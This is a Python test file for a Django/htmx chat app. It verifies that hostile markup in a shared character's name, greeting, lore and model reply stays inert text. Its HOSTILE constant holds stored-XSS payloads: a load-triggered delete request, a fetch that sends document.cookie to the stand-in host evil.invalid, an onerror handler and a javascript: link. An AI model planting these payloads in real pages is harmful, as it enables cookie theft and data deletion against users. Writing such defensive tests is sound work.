"""Attack: account B shares a character whose name, greeting and lore hold markup that htmx would
obey (`data-hx-post` to A's private character's delete URL, `hx-on` code), an event handler and a
`javascript:` link; a model reply says the same. Wherever the server renders that text it stays
text: no element of the page carries the hostile attributes, the text sits in a container htmx
never processes (hx-disable), and htmx is configured to run no code from markup."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from chat.services.instances import instance_create
from library.character_services import character_save
from library.lore.services import lorebook_save

pytestmark = pytest.mark.django_db

HOSTILE = ('<div data-hx-post="/library/characters/secret/delete" data-hx-trigger="load">x</div>'
           '<div data-hx-get="/library/" data-hx-trigger="load" data-hx-on--after-request='
           '"fetch(\'http://evil.invalid/?c=\'+document.cookie)">y</div>'
           '<img src=x onerror="window.pwned=1"><a href="javascript:window.pwned=1">z</a>')


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.stack: list[tuple[str, dict[str, str | None]]] = []
        self.hostile: list[str] = []
        self.unguarded: list[str] = []  # hostile text outside any hx-disable container
        self.meta: dict[str, str | None] = {}

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = dict(attrs)
        for name, value in attrs:
            if (name.startswith(("data-hx", "hx-on", "on"))
                    or "evil.invalid" in (value or "") or "javascript:" in (value or "")):
                self.hostile.append(f"<{tag} {name}={value!r}>")
        if tag == "meta" and names.get("name") == "htmx-config":
            self.meta = names
        if tag not in ("meta", "link", "input", "br", "img", "hr"):
            self.stack.append((tag, names))

    def handle_endtag(self, tag: str) -> None:
        while self.stack:
            if self.stack.pop()[0] == tag:
                break

    def handle_data(self, data: str) -> None:
        # A textarea's content is never markup, so an edit box needs no guard.
        guarded = any("hx-disable" in attrs or tag == "textarea" for tag, attrs in self.stack)
        if "data-hx-post" in data and not guarded:
            self.unguarded.append(data[:60])


def _read(html: str) -> _Elements:
    parser = _Elements()
    parser.feed(html)
    return parser


@pytest.fixture
def hostile_chat(store, alice, bob):
    """Bob's shared character, greeting and lore hostile; alice plays it."""
    book = lorebook_save(store, user=bob, data={"name": "Book", "visibility": "shared",
                                                "entries": [{"keys": ["gate"], "content": HOSTILE}]})
    character = character_save(store, user=bob, data={
        "name": "Mallory <b onmouseover=alert(1)>", "base_persona": "A trickster.",
        "greeting": HOSTILE, "visibility": "shared"})
    instance = instance_create(store, owner=alice, character_id=character)
    with store.instance_lock(instance):
        store.session_append(instance, "sess_001", {
            "role": "assistant", "content": HOSTILE, "turn": 1, "name": "Mallory"})
    return {"instance": instance, "character": character, "lorebook": book}


def test_a_hostile_greeting_and_reply_stay_text_htmx_never_reads(client, alice, hostile_chat):
    client.force_login(alice)
    page = client.get(f"/instances/{hostile_chat['instance']}/").content.decode()
    read = _read(page)
    assert page.count("data-hx-post=&quot;/library/characters/secret/delete") >= 2, \
        "the greeting and the reply are both shown, as text"
    assert read.hostile == []
    assert read.unguarded == [], "rendered text outside an hx-disable container"
    config = read.meta.get("content") or ""
    assert '"allowEval": false' in config and '"allowScriptTags": false' in config
    assert '"selfRequestsOnly": true' in config
    # Her library and home page show Mallory's name and lore, as text.
    for path in ("/library/", f"/library/characters/{hostile_chat['character']}/",
                 f"/library/lorebooks/{hostile_chat['lorebook']}/", "/"):
        html = client.get(path).content.decode()
        assert _read(html).hostile == [], path
        assert "<b onmouseover" not in html and "<img src=x" not in html, path


def test_the_history_page_and_the_messages_partial_keep_hostile_text_inert(client, alice,
                                                                           hostile_chat):
    client.force_login(alice)
    for path in (f"/instances/{hostile_chat['instance']}/history/",
                 f"/instances/{hostile_chat['instance']}/messages"):
        html = client.get(path).content.decode()
        read = _read(html)
        assert "data-hx-post=&quot;" in html, path
        assert read.hostile == [], path
        assert read.unguarded == [], path

